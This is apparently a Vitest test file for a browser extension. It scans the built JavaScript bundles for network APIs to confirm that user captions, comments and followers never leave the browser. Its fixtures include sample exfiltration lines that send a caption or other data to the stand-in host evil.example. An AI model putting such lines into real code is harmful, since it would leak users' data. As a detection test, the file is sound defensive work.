/**
 * Nothing the extension reads leaves the browser (issues 14 and 15: captions, comments and
 * followers "stay in the user's browser"): the built bundles call no network API. Content scripts
 * and the background have none at all; the extension pages carry only Vite's module-preload
 * polyfill, which fetches the page's own <link rel="modulepreload"> chunks (extension files, and
 * only in browsers without native module preload). The e2e network check (tests/e2e/security.e2e.ts)
 * watches the requests themselves.
 */
import { readFileSync } from 'node:fs';
import { relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { builtOutputs, filesUnder } from './build';

const NETWORK_APIS: [string, RegExp][] = [
  ['fetch', /(?<![\w$])fetch\s*\(/g],
  ['XMLHttpRequest', /XMLHttpRequest/g],
  ['sendBeacon', /sendBeacon/g],
  ['WebSocket', /WebSocket/g],
  ['EventSource', /EventSource/g],
  ['WebTransport', /WebTransport/g],
  ['RTCPeerConnection', /RTCPeerConnection/g],
];

/** Vite's polyfill: `fetch(link.href, options)` for the page's own modulepreload links. */
function isPreloadPolyfill(text: string, index: number): boolean {
  const before = text.slice(Math.max(0, index - 900), index);
  return /link\[rel="modulepreload"\]/.test(before) && /^fetch\(\w+\.href,\w+\)/.test(text.slice(index, index + 40));
}

export function networkCalls(text: string): string[] {
  const hits: string[] = [];
  for (const [name, pattern] of NETWORK_APIS) {
    for (const m of text.matchAll(pattern)) {
      if (name === 'fetch' && isPreloadPolyfill(text, m.index!)) continue;
      hits.push(`${name}: ...${text.slice(Math.max(0, m.index! - 50), m.index! + 50)}...`);
    }
  }
  return hits;
}

describe('the network scan', () => {
  it.each([
    ['fetch', 'fetch("https://evil.example/?c="+caption)'],
    ['window.fetch', 'window.fetch(u,{method:"POST",body:t})'],
    ['XMLHttpRequest', 'var x=new XMLHttpRequest;x.open("POST",u)'],
    ['sendBeacon', 'navigator.sendBeacon(u,JSON.stringify(c))'],
    ['WebSocket', 'new WebSocket("wss://x")'],
    ['EventSource', 'new EventSource(u)'],
  ])('catches %s', (_, sample) => expect(networkCalls(sample)).toHaveLength(1));

  it('lets through only the modulepreload polyfill, not a fetch beside it', () => {
    const polyfill = 'for(const i of document.querySelectorAll(\'link[rel="modulepreload"]\'))n(i);function n(i){const s=r(i);fetch(i.href,s)}';
    expect(networkCalls(polyfill)).toEqual([]);
    expect(networkCalls(`${polyfill};fetch("https://evil.example",{body:c})`)).toHaveLength(1);
  });

  it('does not flag ordinary names', () => {
    expect(networkCalls('prefetch(x);a.refetchData(y);const fetched=1')).toEqual([]);
  });
});

describe.each(builtOutputs())('bundles of $name', ({ dir }) => {
  const files = filesUnder(dir, /\.js$/);
  it('has scripts to check', () => expect(files.length).toBeGreaterThan(3));

  it('call no network API (content scripts and background: none at all)', () => {
    const found = files.flatMap((f) => networkCalls(readFileSync(f, 'utf8')).map((h) => `${relative(dir, f)}: ${h}`));
    expect(found).toEqual([]);
    for (const f of files.filter((f) => /content-scripts|background/.test(f))) {
      expect(readFileSync(f, 'utf8'), relative(dir, f)).not.toMatch(/(?<![\w$])fetch\s*\(/);
    }
  });

  it('preload only their own chunks (no link to another origin in the pages)', () => {
    for (const f of filesUnder(dir, /\.html$/)) {
      const links = [...readFileSync(f, 'utf8').matchAll(/<link[^>]+href=["']?([^"' >]+)/gi)].map((m) => m[1]);
      expect(links.filter((h) => /^(?:[a-z]+:)?\/\//i.test(h)), relative(dir, f)).toEqual([]);
    }
  });
});
